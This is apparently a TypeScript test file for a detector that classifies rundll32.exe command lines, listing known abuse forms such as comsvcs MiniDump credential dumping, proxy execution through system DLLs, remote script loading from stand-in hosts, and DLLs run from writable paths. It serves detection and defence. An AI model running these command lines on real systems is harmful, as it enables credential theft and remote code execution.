import { describe, expect, test } from "vitest";
import { sourceFor } from "../../../src/techniques/source.ts";

const derive = (line: string) =>
  sourceFor("rundll32").derive({ Process: "rundll32.exe", CommandLine: line });
const signs = (line: string) => derive(line)["Rundll32Signs"];

describe("the same meaning has the same signs", () => {
  test.each([
    ["proxy", ["pcwutl.dll,LaunchApplication x", "pcwutl,LaunchApplicationW x", "pcwutl.dll,#1 x"]],
    ["proxy", ["advpack.dll,RegisterOCX x.dll", "advpack.dll,#12 x.dll", "advpack,#65548 x.dll"]],
    ["proxy", ["shell32.dll,ShellExec_RunDLLA x", "C:\\Windows\\System32\\SHELL32.DLL,#572 x"]],
    [
      "panel",
      ["shell32.dll,Control_RunDLL C:\\Temp\\x.dll", "shell32.dll,#44 C:\\PROGRA~3\\x.cpl"],
    ],
    ["panel", ["shell32.dll,Control_RunDLLW x.dll", "shell32,Control_RunDLL \\\\h\\s\\x.cpl"]],
    [
      "dump",
      ["comsvcs.dll,MiniDump 1 a full", "comsvcs,#24 1 a full", "comsvcs.dll,#+65560 1 a full"],
    ],
    ["script", ["mshtml.dll,RunHTMLApplication x", "mshtml,#135 x", "javascript:x"]],
    [
      "writable",
      ["C:\\ProgramData\\a.dll,b", "C:\\PROGRA~3\\a.dll,b", "\\\\?\\C:\\ProgramData\\a.dll,b"],
    ],
    [
      "writable",
      ["C:\\Temp\\a.dll,b", "\\Temp\\a.dll,b", "%TEMP%\\a.dll,b", "//./C:/Temp/a.dll,b"],
    ],
    ["writable", ["C:\\Windows\\System32\\..\\Temp\\a.dll,b", "D:\\Users\\a.dll,b"]],
    ["unknown-name", ["windowscoredeviceinfo.dll,CreateBackdoor", ".\\evil.dll,x", "evil,x"]],
    ["elsewhere", ["D:\\tools\\a.dll,b"]],
    ["share", ["\\\\h\\s\\a.dll,b", "\\\\?\\UNC\\h\\s\\a.dll,b"]],
    ["webdav", ["davclnt.dll,DavSetCookie 203.0.113.25 http://203.0.113.25/Shared"]],
    ["webdav", ["davclnt.dll,DavSetCookie fs1 http://fs1/pipe/spoolss"]],
    ["proxy address", ["scrobj.dll,GenerateTypeLib http://h/x", "url.dll,OpenURL \\\\h\\x.hta"]],
    ["writable foreign-ordinal", ["C:\\Users\\a\\x.dat,#1", "C:\\Users\\a\\x.dat #1"]],
    ["writable inert", ["C:\\Temp\\x.dll"]],
    ["known-class", ["-localserver 22d8c27b-47a1-48d1-ad08-7da7abd79617"]],
  ] as const)("%s: %j", (expected, lines) => {
    for (const line of lines) expect(signs(`rundll32.exe ${line}`), line).toBe(expected);
  });
});

test("a copy of comsvcs is known by what it is given", () => {
  expect(signs("rundll32.exe D:\\tools\\c.dll,#24 624 d.bin full")).toBe(
    "dump elsewhere foreign-ordinal",
  );
});

test.each([
  "shell32.dll,Control_RunDLL",
  "shell32.dll,Control_RunDLL main.cpl,@0",
  'shell32.dll,Control_RunDLL "C:\\Windows\\System32\\timedate.cpl",@0',
  "davclnt.dll,DavSetCookie fs1 http://fs1/share",
  "davclnt.dll,DavSetCookie 192.168.0.9 http://192.168.0.9/share",
  "shimgvw.dll,ImageView_Fullscreen C:\\Users\\a\\x.png",
  "%SystemRoot%\\system32\\shell32.dll,OpenAs_RunDLL C:\\x.foo",
  "\\\\?\\C:\\Windows\\System32\\shell32.dll,Control_RunDLL main.cpl",
  "C:\\PROGRA~1\\Vendor\\a.dll,b",
  "",
])("what Windows itself does has none: %s", (line) => {
  expect(signs(`rundll32.exe ${line}`)).toBe("");
});

test("a device's prefix is neither a stream nor a share, and its module is named without it", () => {
  const columns = derive(
    "rundll32.exe \\\\?\\C:\\Windows\\System32\\shell32.dll,Control_RunDLL a.cpl",
  );
  expect(columns["Rundll32Flags"]).toBe("");
  expect(columns["Rundll32Module"]).toBe("C:\\Windows\\System32\\shell32.dll");
  expect(derive("rundll32.exe \\\\?\\C:\\a.txt:b.dll,c")["Rundll32Flags"]).toContain("ads");
});

describe("templates", () => {
  const template = (line: string) => derive(`rundll32.exe ${line}`)["Rundll32Template"];

  test("numbers in a module's path are folded, that of a name is not", () => {
    expect(template("\\10012\\26584.exe")).toBe(template("\\1956\\21469.exe"));
    expect(template("C:\\a\\shell32.dll,b")).not.toBe(template("C:\\a\\shell64.dll,b"));
    expect(template("C:\\a1234567\\x.dll,b")).toBe(template("C:\\a7654321\\x.dll,b"));
  });

  test("a public address and a private one share none", () => {
    const ask = (host: string) => template(`davclnt.dll,DavSetCookie ${host} http://${host}/s`);
    expect(ask("192.168.0.9")).toBe(ask("172.16.3.4"));
    expect(ask("203.0.113.25")).toBe(ask("198.51.100.7"));
    expect(ask("192.168.0.9")).not.toBe(ask("203.0.113.25"));
  });
});
